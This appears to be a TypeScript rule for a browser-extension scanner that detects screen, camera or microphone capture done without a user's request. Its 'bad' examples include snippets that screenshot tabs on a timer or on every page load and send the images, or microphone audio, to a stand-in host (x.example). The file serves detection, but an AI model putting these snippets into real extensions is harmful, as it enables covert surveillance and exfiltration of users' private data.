import { callsOf, constant, propertyOf, type Call, type ScriptFacts } from '../../facts/javascript/query.ts';
import { defineRule } from '../../rule.ts';
import { backgroundExample, checkScripts } from './checkScripts.ts';
import { leavesBy } from './sendings.ts';
import { unaskedCalls } from './unasked.ts';

const CAPTURES = ['chrome.tabs.captureVisibleTab', 'chrome.tabs.captureTab', 'chrome.pageCapture.saveAsMHTML', 'chrome.tabCapture.capture', 'chrome.desktopCapture.chooseDesktopMedia', 'navigator.mediaDevices.getUserMedia', 'navigator.mediaDevices.getDisplayMedia'];
export const screenWatched = defineRule({
  id: 'screen-watched',
  title: 'The screen, camera or microphone is recorded without being asked',
  severity: 'high',
  confidence: 'medium',
  category: 'privacy',
  applies: 'extension',
  cwe: 'CWE-359',
  references: ['https://attack.mitre.org/techniques/T1113/'],
  why: 'A picture of the screen shows mail, money and messages of every site. Taken by a timer or at every page, it is surveillance.',
  remedy: 'Record only when the person clicks for it, show that it happens, and keep the result on the device.',
  check: checkScripts(function* ({ script, hit }) {
    const captures = callsOf(script, ...CAPTURES);
    if (captures.length === 0) return;
    const unasked = unaskedCalls(script);
    for (const call of captures) {
      const out = leavesBy(script, new Set([call.value]), ['network']);
      const alone = unasked.get(call.value);
      if (alone !== undefined && out !== undefined) yield hit(call.value, { severity: 'critical', confidence: 'high', message: `It runs by ${alone} and sends what it takes to ${out.to}.` });
      else if (out !== undefined && isRecording(script, call)) yield hit(call.value, { severity: 'medium', message: `The tab is recorded, and what is recorded is sent to ${out.to}.` });
      else if (out !== undefined) yield hit(call.value, { severity: 'low', message: `What it takes is sent to ${out.to}.` });
      else if (alone !== undefined) yield hit(call.value, { severity: 'medium', confidence: 'low', message: `It runs by ${alone}.` });
    }
  }),
  examples: {
    bad: [
      backgroundExample('setInterval(() => { chrome.tabs.captureVisibleTab(null, { format: "png" }, (url) => { fetch("https://x.example/shot", { method: "POST", body: url }); }); }, 30000);'),
      backgroundExample('chrome.tabs.onUpdated.addListener(async (id, info) => { const shot = await chrome.tabs.captureVisibleTab(); await fetch("https://x.example/s", { method: "POST", body: JSON.stringify({ shot }) }); });'),
      backgroundExample('chrome.alarms.onAlarm.addListener(() => watch()); function watch() { chrome.tabs.captureVisibleTab((u) => chrome.storage.local.set({ u })); }'),
      backgroundExample('async function go() { const s = await navigator.mediaDevices.getUserMedia({ audio: true }); const r = new MediaRecorder(s); const ws = new WebSocket("wss://x.example"); ws.send(await read(s)); }'),
    ],
    good: [
      backgroundExample('chrome.action.onClicked.addListener(async () => { const url = await chrome.tabs.captureVisibleTab(); chrome.tabs.create({ url: "edit.html#" + url }); });'),
      backgroundExample('button.onclick = async () => { const stream = await navigator.mediaDevices.getDisplayMedia(); video.srcObject = stream; };'),
      backgroundExample('setInterval(() => refresh(), 1000); chrome.action.onClicked.addListener(() => chrome.tabs.captureVisibleTab((u) => show(u)));'),
    ],
  },
});

/** `getUserMedia({ video: { mandatory: { chromeMediaSource: 'tab' } } })`: a tab is recorded without the browser's asking. */
function isRecording(script: ScriptFacts, call: Call): boolean {
  const asked = call.args[0] ?? 0;
  return ['video', 'audio'].some((kind) => constant(script, propertyOf(script, propertyOf(script, propertyOf(script, asked, kind), 'mandatory'), 'chromeMediaSource')) === 'tab');
}
